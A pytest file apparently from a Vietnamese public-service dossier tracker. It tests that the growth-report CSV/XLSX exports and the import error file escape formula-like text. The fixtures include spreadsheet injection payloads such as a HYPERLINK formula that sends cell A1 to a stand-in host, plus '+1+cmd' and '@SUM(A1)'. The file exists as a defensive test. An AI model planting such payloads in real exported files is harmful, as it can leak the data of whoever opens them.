"""No file the service writes carries a formula from data (DESIGN, section 6): the growth report's
CSV and XLSX (API and manager page) and the import error file, read back as a spreadsheet would.

Text that starts with = + - @, a tab or a carriage return is written as text: in CSV after a
leading `'`, in XLSX as a string cell (never a formula) with Excel's quote prefix. Numbers stay
numbers, negative ones included."""

from __future__ import annotations

import csv
import io
import re

import openpyxl
import pytest

from tests.pages import sign_in
from tests.test_imports import csv_bytes, result_row, run_job, upload
from tracker.csvfile import FORMULA_STARTS, csv_cell, csv_row, set_xlsx_cell
from tracker.extensions import db
from tracker.imports import files
from tracker.imports.models import ImportRowError
from tracker.reports import export
from tracker.reports.models import Baseline

HYPERLINK = '=HYPERLINK("http://x/"&A1,"x")'
PAYLOADS = (HYPERLINK, "+1+cmd", "@SUM(A1)", "-2+3", "\tTab đầu", "\rCR đầu")
URL = "/api/v1/reports/growth"
PARTS = export.PARTS


def test_text_starting_like_a_formula_is_text_and_numbers_stay_numbers():
    for payload in PAYLOADS:
        assert csv_cell(payload) == "'" + payload
    assert csv_row([HYPERLINK, 3, -5, -2.5, None, "Bưu cục Biên Hòa", ""]) == [
        "'" + HYPERLINK, 3, -5, -2.5, None, "Bưu cục Biên Hòa", "",
    ]  # fmt: skip

    workbook = openpyxl.Workbook()
    sheet = workbook.active
    for column, value in enumerate([*PAYLOADS, -5, 0.25, "a\x01b", "\x0b=1"], start=1):
        set_xlsx_cell(sheet.cell(row=1, column=column), value)
    cells = list(_reload(workbook).active[1])

    assert [cell.value for cell in cells[: len(PAYLOADS)]] == [
        payload.replace("\r", "\n")
        for payload in PAYLOADS  # XML keeps CR as a line break
    ]
    assert all(cell.data_type == "s" and cell.quotePrefix for cell in cells[: len(PAYLOADS)])
    assert [(cell.value, cell.data_type) for cell in cells[-4:-2]] == [(-5, "n"), (0.25, "n")]
    # What XML cannot hold is dropped rather than failing the export; what is left is checked.
    assert [cell.value for cell in cells[-2:]] == ["ab", "=1"]
    assert cells[-1].data_type == "s" and cells[-1].quotePrefix


# The growth report ---------------------------------------------------------------------------


@pytest.fixture
def manager(make_staff):
    return make_staff("manager")


@pytest.fixture
def named_like_formulas(app, catalogue, create_dossier):
    """Catalogue names (what a catalogue file loads) that read as formulas, on 2018 dossiers,
    against a 2017 baseline so that growth is negative (-99.65%)."""
    catalogue.procedure.name = HYPERLINK
    catalogue.office.name = "+1+cmd"
    catalogue.agency.name = "@SUM(A1)"
    catalogue.sector.name_vi = "-2+3"
    catalogue.channel.name_vi = "\tTab đầu"
    catalogue.return_procedure.name = "\rCR đầu"
    db.session.add(Baseline(year=2017, month=0, two_way=579, one_way=307_871, all_tthc=1_101_607))
    db.session.commit()
    create_dossier(received_at="2018-01-15T09:00+07:00")
    create_dossier(
        service_form="return_only",
        procedure_code="1.004567",
        received_at="2018-03-05T09:00+07:00",
        appointment_date="2018-03-06",
    )


@pytest.fixture
def manager_page(app, manager):
    """A client signed in as the manager, for the export page."""
    client = app.test_client()
    sign_in(client, manager.user.username)
    return client


def csv_of(client, part: str, path: str = URL, **kwargs) -> bytes:
    query = {"year": 2018, "format": "csv", "part": part}
    response = client.get(path, query_string=query, **kwargs)
    assert response.status_code == 200, response.get_data(as_text=True)
    return response.data


def rows_of(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def assert_no_csv_formula(rows: list[list[str]]) -> None:
    for row in rows:
        for cell in row:
            assert not cell.startswith(FORMULA_STARTS) or _number(cell), (cell, row)


def test_csv_parts_escape_names_and_keep_numbers(client, manager, named_like_formulas):
    parts = {part: rows_of(csv_of(client, part, headers=manager.headers)) for part in PARTS}

    for rows in parts.values():
        assert_no_csv_formula(rows)
    names = {part: {row[1] for row in rows[1:]} for part, rows in parts.items() if part in (
        "procedure", "office", "agency", "sector", "channel")}  # fmt: skip
    assert names["procedure"] == {"'" + HYPERLINK, "'\rCR đầu"}
    assert names["office"] == {"'+1+cmd"}
    assert names["agency"] == {"'@SUM(A1)"}
    assert names["sector"] == {"'-2+3"}
    assert names["channel"] == {"'\tTab đầu"}
    # Numbers stay numbers, a negative growth too.
    summary = parts["summary"]
    two_way = dict(zip(summary[0], summary[1], strict=True))
    assert two_way["Tăng trưởng (%)"] == "-99.83"  # 1 against 579
    assert two_way["Năm 2018 (lũy kế)"] == "1"
    procedure = parts["procedure"]
    totals = procedure[0].index("Tổng qua bưu chính: năm 2018 (lũy kế)")
    assert sorted(row[totals] for row in procedure[1:]) == ["1", "1"]


def test_the_manager_page_gives_the_apis_csv(client, manager, manager_page, named_like_formulas):
    for part in PARTS:
        page = csv_of(manager_page, part, "/manager/export")
        assert page == csv_of(client, part, headers=manager.headers)


def test_xlsx_has_no_formula_from_data(client, manager, manager_page, named_like_formulas):
    query = {"year": 2018, "format": "xlsx"}
    api = openpyxl.load_workbook(
        io.BytesIO(client.get(URL, query_string=query, headers=manager.headers).data)
    )
    page = openpyxl.load_workbook(
        io.BytesIO(manager_page.get("/manager/export", query_string=query).data)
    )

    seen = set()
    for sheet in api.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if isinstance(cell.value, str) and cell.value.startswith((*FORMULA_STARTS, "\n")):
                    assert cell.data_type == "s" and cell.quotePrefix, cell.value
                    seen.add(cell.value)
    assert seen == {HYPERLINK, "+1+cmd", "@SUM(A1)", "-2+3", "\tTab đầu", "\nCR đầu"}
    summary = api["Tổng hợp"]
    headings = [cell.value for cell in summary[1]]
    growth = summary.cell(row=2, column=headings.index("Tăng trưởng (%)") + 1)
    assert (growth.data_type, round(growth.value, 4)) == ("n", -0.9983)
    actual = summary.cell(row=2, column=headings.index("Năm 2018 (lũy kế)") + 1)
    assert (actual.value, type(actual.value)) == (1, int)
    # The page's workbook is the API's, cell for cell (the bytes differ by the save time).
    assert [_values(sheet) for sheet in page.worksheets] == [
        _values(sheet) for sheet in api.worksheets
    ]


# The import error file -------------------------------------------------------------------------


def test_the_import_error_file_escapes_what_it_quotes(client, make_staff, catalogue):
    officer = make_staff("agency", agency=catalogue.agency)
    rows = [
        result_row(1, applicant_name="+1+cmd", applicant_phone="12345"),
        result_row(2, procedure_code=HYPERLINK),
        result_row(3, fee_vnd="-2+3"),
    ]
    job = run_job(upload(client, officer, csv_bytes(rows)).get_json()["id"])
    # Messages that start with what the file held (as a rule may quote it), stored as the job's.
    db.session.add_all(
        ImportRowError(job_id=job.id, line=10 + n, field="note", message=payload)
        for n, payload in enumerate(PAYLOADS)
    )
    db.session.commit()

    response = client.get(
        f"/api/v1/imports/{job.id}/errors.csv", headers=officer.headers, buffered=True
    )
    table = rows_of(response.data)

    assert table[0] == ["line", "field", "message"]
    assert_no_csv_formula(table)
    lines = [int(line) for line, _field, _message in table[1:]]  # numbers stay numbers
    assert lines == sorted(lines) and lines[:3] == [2, 3, 4]
    quoted = [message for line, _field, message in table[1:] if int(line) >= 10]
    assert quoted == ["'" + payload for payload in PAYLOADS]


def test_the_error_file_writer_escapes_every_text_cell():
    text = "".join(files.errors_csv([(7, "-field", "=1+1"), (8, "note", "-5")]))

    assert rows_of(text.encode()) == [
        ["line", "field", "message"],
        ["7", "'-field", "'=1+1"],
        ["8", "note", "'-5"],  # text, even when it looks like a number: it is a message
    ]


def _reload(workbook: openpyxl.Workbook) -> openpyxl.Workbook:
    out = io.BytesIO()
    workbook.save(out)
    return openpyxl.load_workbook(io.BytesIO(out.getvalue()))


def _values(sheet) -> list[tuple]:
    return [tuple(row) for row in sheet.iter_rows(values_only=True)]


def _number(text: str) -> bool:
    return re.fullmatch(r"-?[0-9]+(\.[0-9]+)?", text) is not None
